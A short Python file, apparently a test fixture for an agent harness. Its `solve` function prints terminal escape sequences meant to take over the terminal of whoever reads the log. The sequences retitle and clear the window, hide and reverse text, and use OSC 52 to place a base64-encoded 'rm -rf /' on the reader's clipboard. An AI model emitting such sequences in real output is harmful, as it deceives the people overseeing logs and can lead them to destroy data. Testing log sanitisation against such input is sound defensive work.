"""Prints characters that would steer the terminal of whoever reads the log."""

import sys


def solve(problem, tools, llm):
    sys.stdout.write("\x1b]0;owned\x07\x1b[2J\x1b[8mhidden\x1b[0m\u202edesrever\r\x9b31mred\x00\x08\n")
    sys.stderr.write("\x1bP+q544e\x1b\\\x1b]52;c;cm0gLXJmIC8=\x07\n")
    return {"attempt": "printed"}
